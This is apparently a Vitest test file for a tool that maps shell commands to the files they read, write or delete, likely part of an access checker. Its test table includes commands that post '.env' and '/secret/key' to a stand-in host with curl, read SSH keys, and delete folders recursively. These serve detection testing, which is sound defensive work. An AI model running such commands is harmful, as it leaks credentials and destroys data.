import { describe, expect, it } from 'vitest';
import { folder, machine, text } from './machine.js';
import { line, paths, rows, start, withShell } from './rig.js';

withShell();

/** Lines in /proj, and every use of a file that they name. */
const FILES = String.raw`
  cat .env => read /proj/.env
  cat ./src/../.env => read /proj/.env
  cat secret nothing => read /proj/secret
  cat /secret/key => read /secret/key
  cat ~/.ssh/id => read /home/me/.ssh/id
  cat "$HOME/.ssh/id" => read /home/me/.ssh/id
  cat .e* => read /proj/.env, read /proj/.env.example
  cat * => read /proj/a.txt, read /proj/out, read /proj/secret, read /proj/src
  cat s*/.[e]nv => read /proj/src/.env
  cat {.env,a.txt} => read /proj/.env, read /proj/a.txt
  cat no*pe => 
  cat < .env => read /proj/.env
  while read x; do echo $x; done < ../secret/key => read /secret/key
  echo x > out/y => write /proj/out/y
  echo x >> new => write /proj/new
  cat <> a.txt => read /proj/a.txt, write /proj/a.txt
  echo .env => 
  echo /secret/* => stat /secret/key
  printf %s .e* => stat /proj/.env, stat /proj/.env.example
  echo .env >> .gitignore => write /proj/.gitignore
  cat $(echo .env) => read /proj/.env
  echo .env | xargs cat => read /proj/.env
  [ -f .env ] => stat /proj/.env
  for f in /secret/*; do cat $f; done => read /secret/key
  cd src && cat b.ts => read /proj/src/b.ts
  cd src; cat .env => read /proj/src/.env
  (cd src); cat secret => read /proj/secret
  (cd src && cat b.ts); cat a.txt => read /proj/a.txt, read /proj/src/b.ts
  cd nowhere; cat .env => read /proj/.env, read /proj/nowhere/.env
  command cd src && cat b.ts => read /proj/src/b.ts
  cd /secret | cat key => 
  node --env-file=.env x.js => read /proj/.env
  node --env-file .env -e 0 => read /proj/.env
  node -r ./p.cjs => read /proj/p.cjs
  node --require=/secret/key => read /secret/key
  node --cpu_prof_dir=/p --cpu-prof x => write /p, read /p
  node --cpu-prof a => write /proj
  node --snapshot-blob s --build-snapshot ./e.js => read /proj/e.js, read /proj/s, write /proj/s
  node -e "require('fs').readFileSync('/x')" => 
  curl -d @.env http://x => read /proj/.env
  curl -T secret http://x => read /proj/secret
  curl -F f=@/secret/key http://x/.env => read /secret/key
  curl file:///secret/key => read /secret/key
  curl -o out/x http://x => read /proj/out/x, write /proj/out/x
  curl -sSoout/x http://x => write /proj/out/x
  wget -O out/x http://x => read /proj/out/x, write /proj/out/x
  wget http://x/y => write /proj
  dd if=/secret/key of=out/k => read /secret/key, read /proj/out/k, write /proj/out/k
  grep -f/secret/key x => read /secret/key
  cc -I/secret -o out/a a.txt => read /secret, read /proj/a.txt, read /proj/out/a, write /proj/out/a
  tee out/a b => write /proj/b, write /proj/out/a
  touch new => create /proj/new
  mkdir -p out/d => create /proj/out/d
  rm -rf out => delete /proj/out/**
  rm a.txt => delete /proj/a.txt
  rmdir out => delete /proj/out
  cp secret out/c => read /proj/secret, write /proj/out/c
  cp secret out => read /proj/secret, write /proj/out/secret
  cp -t out secret => read /proj/out, read /proj/secret, write /proj/out/secret
  cp a.txt /etc/x -S x => read /proj/a.txt, write /etc/x
  cp -r src out => read /proj/src/**, write /proj/out/src/**
  mv secret out/m => move /proj/secret/**, write /proj/out/m/**
  ln -s /secret/key k => create /proj/k, link /secret/key/**, read /secret/key
  ln secret k => create /proj/k, link /proj/secret, link /proj/secret, read /proj/secret
  sed -i s/a/b/ a.txt => write /proj/a.txt, read /proj/a.txt
  sed s/a/b/ a.txt => read /proj/a.txt
  sed 'w out/w' a.txt => read /proj/a.txt, write /proj/out/w
  awk '{print > "out/w"}' a.txt => read /proj/a.txt, write /proj/out/w
  perl -pi -e 1 a.txt => read /proj/a.txt, write /proj/a.txt
  chmod 600 a.txt => write /proj/a.txt
  chmod -R 700 out => write /proj/out/**
  truncate -s 0 a.txt => write /proj/a.txt
  tar czf out/a.tgz src => read /proj/out/a.tgz, read /proj/src, read /proj/src/**, write /proj/out/a.tgz
  tar -xzf a.txt -C /opt => read /opt, read /proj/a.txt, write /opt/**
  tar xf a.txt => read /proj/a.txt, write /proj/**
  tar -tf/secret/key => read /secret/key
  find /secret -name "*" => list /secret/**, read /secret
  find src -exec cat {} + => read /proj/src, read /proj/src/**
  find out -delete => delete /proj/out/**, list /proj/out/**, read /proj/out
  grep -r x src => read /proj/src/**
  rg x src => read /proj/src/**
  git log --output=/out/f => read /out/f, write /out/f
  git clone http://x /opt/y => create /opt/y, read /opt/y
  esbuild a.ts --outfile=out/b.js => read /proj/out/b.js, write /proj/out/b.js
  tsc --outDir out => read /proj/out, write /proj/out
  docker run -v /secret:/s alpine => read /s, read /secret, write /secret/**
  git commit -m "fix src/b.ts and /etc/passwd" => 
  git push https://x/.env => 
  npm install @scope/pkg => read /proj/@scope/pkg
  echo x > "$(date)" => write /
  env -C src cat b.ts => read /proj/src, read /proj/src/b.ts
  sh -c "cat \"\$1\"" _ .env => read /proj/.env
  bash x.sh /secret/key => read /secret/key
`;

describe('files that a command names', () => {
  const around = machine({
    '/proj/.env': text('x'),
    '/proj/.env.example': text('x'),
    '/proj/secret': text('x'),
    '/proj/a.txt': text('x'),
    '/proj/out': folder,
    '/proj/src/.env': text('x'),
    '/proj/src/b.ts': text('x'),
    '/secret/key': text('x'),
    '/home/me/.ssh/id': text('x'),
  });
  it.each(rows(FILES, ', '))('%s', (command, expected) => {
    const given = line(command, { around, shell: 'bash' });
    expect(paths(given)).toEqual([...expected].sort());
  });

  it('are seen without a shell too, as they are given', () => {
    expect(paths(start('head', ['/secret/key', '~/.ssh/id', '*'], { around }))).toEqual([
      'read /proj/~/.ssh/id',
      'read /secret/key',
    ]);
    expect(paths(start('cat', ['key'], { around, cwd: '/secret' }))).toEqual(['read /secret/key']);
  });
});
